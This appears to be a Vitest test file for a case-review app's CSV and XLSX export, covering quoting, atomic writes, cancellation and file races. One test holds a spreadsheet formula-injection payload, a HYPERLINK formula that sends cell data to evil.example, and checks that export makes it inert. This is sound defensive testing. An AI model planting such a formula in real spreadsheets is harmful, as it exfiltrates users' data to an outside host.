import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportWorkbook, ExportCancelledError, openExportConnection } from '../../../backend/export';
import type { JobEvent } from '../../../shared/domain/case';
import {
  caseIdOf,
  exportFilesIn,
  ok,
  openImportedWorkspace,
  REVIEWER,
  runExport,
  writtenPaths,
  type ExportWorkspace,
} from './workspace';
import { IS_CORRECTION_EVENT } from '../../../backend/store/audit-chain';

let ws: ExportWorkspace;
let injectionCase: number;

const readCsv = (file: string) =>
  parse(fs.readFileSync(file), { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];

beforeAll(async () => {
  ws = await openImportedWorkspace();
  injectionCase = caseIdOf(ws, 'formula-injection-letter.txt');
  ok(
    await ws.service.send('corrections.apply', {
      caseId: injectionCase,
      reviewer: REVIEWER,
      reason: 'the letter says "Overturned", on page 3',
      change: { type: 'set-field', path: 'items[0].decision', value: 'Overturned' },
    }),
  );
}, 120_000);

afterAll(() => ws?.close());

const itemCount = () => ws.service.ctx.db.prepare('SELECT COUNT(*) FROM items').pluck().get() as number;
/** Reviewers' corrections: the audit events the Corrections file lists (not the letters' import events). */
const corrections = () =>
  ws.service.ctx.db.prepare(`SELECT COUNT(*) FROM audit_events WHERE ${IS_CORRECTION_EVENT}`).pluck().get() as number;

describe('CSV export', () => {
  it('writes the Items table as UTF-8 with a BOM, RFC 4180 quoting, one record per item', async () => {
    const file = path.join(ws.dir, 'items.csv');
    const result = await runExport(ws, { format: 'csv', outPath: file });
    expect(writtenPaths(result)).toEqual([file]);
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.includes(Buffer.from('\r\n'))).toBe(true);

    const records = readCsv(file);
    expect(records).toHaveLength(itemCount());
    expect(result.items).toBe(itemCount());
    expect(Object.keys(records[0]!)).toContain('Rationale');
    // Multi-line, comma- and quote-laden text survives the round trip intact.
    const withComma = records.find((r) => r.Rationale?.includes(','));
    expect(withComma).toBeDefined();
    const parsedAgain = ws.service.ctx.db
      .prepare('SELECT COUNT(*) FROM items WHERE case_id = ?')
      .pluck()
      .get(Number(withComma!['Case ID'])) as number;
    expect(records.filter((r) => r['Case ID'] === withComma!['Case ID'])).toHaveLength(parsedAgain);
  });

  it('makes a treatment starting with =HYPERLINK( inert with a leading quote, and keeps real numbers bare', async () => {
    const file = path.join(ws.dir, 'injection.csv');
    await runExport(ws, { format: 'csv', outPath: file, caseIds: [injectionCase] });
    const [record] = readCsv(file);
    expect(record!.Treatment).toBe(
      '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Acupuncture 2 times a week for 6 weeks"), QTY: 12',
    );
    expect(record!.Decision).toBe('Overturned');
    expect(record!.Quantity).toBe('12');
    expect(record!['Patient age']).toBe('52');
    expect(record!['Date of injury']).toBe('2000-11-16');
    expect(record!.Corrected).toBe('Yes');
  });

  it('with allTables, writes Cases and Corrections as sibling files', async () => {
    const file = path.join(ws.dir, 'report.csv');
    const result = await runExport(ws, { format: 'csv', outPath: file, allTables: true, includeParsedValues: true });
    const casesFile = path.join(ws.dir, 'report-cases.csv');
    const correctionsFile = path.join(ws.dir, 'report-corrections.csv');
    expect(writtenPaths(result)).toEqual([file, casesFile, correctionsFile]);
    expect(result).toMatchObject({ cases: 8, corrections: 1 });

    const cases = readCsv(casesFile);
    expect(cases).toHaveLength(8);
    const pdf = cases.find((c) => c['Case number'] === 'CM16-0230651')!;
    expect(pdf['Decision date']).toBe('2017-01-09');
    expect(pdf['Imported at (UTC)']).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);

    const [event] = readCsv(correctionsFile);
    expect(event).toMatchObject({
      'Event ID': '9', // events 1–8 are the letters' imports
      Reviewer: REVIEWER,
      Path: 'items[0].decision',
      'Old value': 'Upheld',
      'New value': 'Overturned',
      Reason: 'the letter says "Overturned", on page 3',
    });
    const items = readCsv(file);
    const corrected = items.find((r) => r['Case ID'] === String(injectionCase))!;
    expect(corrected['Decision (parsed)']).toBe('Upheld');
  });
  it('reads each case once for Items and Cases, and its progress ends at 100 %', async () => {
    const connection = openExportConnection(ws.service.ctx.db, ws.dbPath);
    const updates: [number, number, string | null][] = [];
    try {
      await exportWorkbook(
        connection.db,
        { format: 'csv', outPath: path.join(ws.dir, 'progress.csv'), allTables: true },
        { update: (done, total, current) => updates.push([done, total, current]) },
      );
    } finally {
      connection.release();
    }
    const cases = 8;
    const events = corrections();
    expect(new Set(updates.map(([, total]) => total))).toEqual(new Set([cases + events]));
    expect(updates.at(-1)).toEqual([cases + events, cases + events, 'Done']);
    expect([...new Set(updates.map(([, , current]) => current))]).toEqual(['Starting', 'Items', 'Corrections', 'Done']);
  });
});

describe('atomic write', () => {
  it('a cancelled export leaves no file under the chosen name and keeps an older one intact', async () => {
    const target = path.join(ws.dir, 'cancel.xlsx');
    fs.writeFileSync(target, 'the previous export');
    const before = exportFilesIn(ws.dir);
    const controller = new AbortController();
    const connection = openExportConnection(ws.service.ctx.db, ws.dbPath);
    const phases: string[] = [];
    try {
      // Cancel once the Cases sheet is in the temporary file and Items is being written.
      const run = exportWorkbook(
        connection.db,
        { format: 'xlsx', outPath: target },
        {
          signal: controller.signal,
          update: (_done, _total, current) => {
            if (current) phases.push(current);
            if (current === 'Items') controller.abort();
          },
        },
      );
      await expect(run).rejects.toBeInstanceOf(ExportCancelledError);
    } finally {
      connection.release();
    }
    expect(phases).toContain('Cases');
    expect(fs.readFileSync(target, 'utf8')).toBe('the previous export');
    expect(exportFilesIn(ws.dir)).toEqual(before); // no temporary file left behind
  });

  it('a failure half-way removes every file of a multi-file CSV export', async () => {
    const target = path.join(ws.dir, 'failing.csv');
    const before = exportFilesIn(ws.dir);
    const connection = openExportConnection(ws.service.ctx.db, ws.dbPath);
    try {
      const run = exportWorkbook(
        connection.db,
        { format: 'csv', outPath: target, allTables: true },
        {
          update: (_done, _total, current) => {
            if (current === 'Corrections') throw new Error('disk full (simulated)');
          },
        },
      );
      await expect(run).rejects.toThrow('disk full (simulated)');
    } finally {
      connection.release();
    }
    expect(exportFilesIn(ws.dir)).toEqual(before);
  });

  it('jobs.cancel through the API ends the job as cancelled with nothing written', async () => {
    const target = path.join(ws.dir, 'api-cancel.xlsx');
    const events: JobEvent[] = [];
    const off = ws.service.onEvent((e) => {
      if (e.type === 'job') events.push(e);
    });
    const { jobId } = ok(await ws.service.privileged.send('export.toFile', { format: 'xlsx', outPath: target }));
    expect(ok(await ws.service.send('jobs.cancel', { jobId }))).toEqual({ cancelled: true });
    await expect(ws.service.waitForJob(jobId)).rejects.toThrow(/cancelled/);
    off();
    expect(events.at(-1)).toMatchObject({ jobId, kind: 'export', phase: 'cancelled' });
    expect(fs.existsSync(target)).toBe(false);
    expect(exportFilesIn(ws.dir).filter((f) => f.includes('api-cancel'))).toEqual([]);
  });

  it('refuses a relative path, a missing folder or a file name of the other format before starting', async () => {
    const relative = await ws.service.privileged.send('export.toFile', { format: 'xlsx', outPath: 'out.xlsx' });
    expect(relative).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    const missing = await ws.service.privileged.send('export.toFile', {
      format: 'csv',
      outPath: path.join(ws.dir, 'no-such-folder', 'out.csv'),
    });
    expect(missing).toMatchObject({ ok: false, error: { code: 'invalid_input', message: /does not exist/ } });
    const wrongKind = await ws.service.privileged.send('export.toFile', {
      format: 'xlsx',
      outPath: path.join(ws.dir, 'out.csv'),
    });
    expect(wrongKind).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_input',
        message: `Choose a file name ending in .xlsx for this export: ${path.join(ws.dir, 'out.csv')}`,
      },
    });
    expect(fs.existsSync(path.join(ws.dir, 'out.csv'))).toBe(false);
  });

  it('keeps serving writes while an export reads, and exports one consistent snapshot', async () => {
    const target = path.join(ws.dir, 'snapshot.csv');
    const eventsBefore = corrections();
    const connection = openExportConnection(ws.service.ctx.db, ws.dbPath);
    let write: Promise<unknown> | null = null;
    try {
      await exportWorkbook(
        connection.db,
        { format: 'csv', outPath: target, allTables: true },
        {
          update: (_done, _total, current) => {
            // The export's cursor is open right now; the app's own connection must still accept writes.
            if (current === 'Items' && !write) {
              write = ws.service.send('corrections.apply', {
                caseId: injectionCase,
                reviewer: REVIEWER,
                change: { type: 'note', text: 'written while exporting' },
              });
            }
          },
        },
      );
    } finally {
      connection.release();
    }
    expect(write).not.toBeNull();
    expect(await write).toMatchObject({ ok: true });
    expect(corrections()).toBe(eventsBefore + 1);
    // The note arrived after the export's snapshot began: not in this export.
    expect(readCsv(path.join(ws.dir, 'snapshot-corrections.csv'))).toHaveLength(eventsBefore);
  });
});

describe('file-system failures', () => {
  it.skipIf(process.getuid?.() === 0)('says in one line when the folder is not writable', async () => {
    const readOnlyDir = path.join(ws.dir, 'read-only');
    fs.mkdirSync(readOnlyDir, { mode: 0o555 });
    const connection = openExportConnection(ws.service.ctx.db, ws.dbPath);
    try {
      await expect(
        exportWorkbook(connection.db, { format: 'xlsx', outPath: path.join(readOnlyDir, 'out.xlsx') }),
      ).rejects.toThrow(/^Cannot export to .*out\.xlsx: permission denied; nothing was written$/);
    } finally {
      connection.release();
      fs.chmodSync(readOnlyDir, 0o755);
    }
    expect(fs.readdirSync(readOnlyDir)).toEqual([]);
  });
});

/**
 * `imr export --out X` without --force checks X before the job; the job's last step (atomic-file.ts) must not
 * replace a file created meanwhile either. The hook: the moment the export notes its temporary files in the journal
 * (they exist, nothing is committed yet), another program writes a file under a final name.
 */
describe('a file created while the export runs', () => {
  function createWhenStarted(file: string): () => void {
    const journal = ws.service.ctx.partials;
    const add = journal.add.bind(journal);
    journal.add = (temps) => {
      add(temps);
      fs.writeFileSync(file, 'written by someone else meanwhile');
    };
    return () => {
      journal.add = add;
    };
  }

  it('is kept when the user did not ask to replace: the export fails saying so, and writes nothing', async () => {
    const file = path.join(ws.dir, 'appeared.xlsx');
    const restore = createWhenStarted(file);
    try {
      await expect(runExport(ws, { format: 'xlsx', outPath: file })).rejects.toThrow(
        `Cannot export to ${file}: a file of that name was created while the export ran; it is kept, and nothing was written`,
      );
    } finally {
      restore();
    }
    expect(fs.readFileSync(file, 'utf8')).toBe('written by someone else meanwhile');
    expect(exportFilesIn(ws.dir).filter((f) => f.includes('appeared'))).toEqual(['appeared.xlsx']);
  });

  it('keeps all or none of the CSV files: a sibling that appeared leaves the others unwritten', async () => {
    const file = path.join(ws.dir, 'appeared.csv');
    const sibling = path.join(ws.dir, 'appeared-corrections.csv');
    const restore = createWhenStarted(sibling);
    try {
      await expect(runExport(ws, { format: 'csv', outPath: file, allTables: true })).rejects.toThrow(
        `Cannot export to ${sibling}: a file of that name was created while the export ran`,
      );
    } finally {
      restore();
    }
    expect(fs.readFileSync(sibling, 'utf8')).toBe('written by someone else meanwhile');
    expect(exportFilesIn(ws.dir).filter((f) => f.startsWith('appeared'))).toEqual([
      'appeared-corrections.csv',
      'appeared.xlsx',
    ]);
  });

  it('is replaced when the user asked to (imr export --force)', async () => {
    const file = path.join(ws.dir, 'replaced.csv');
    const restore = createWhenStarted(file);
    try {
      await runExport(ws, { format: 'csv', outPath: file, replace: true });
    } finally {
      restore();
    }
    expect(readCsv(file)).toHaveLength(itemCount());
  });
});
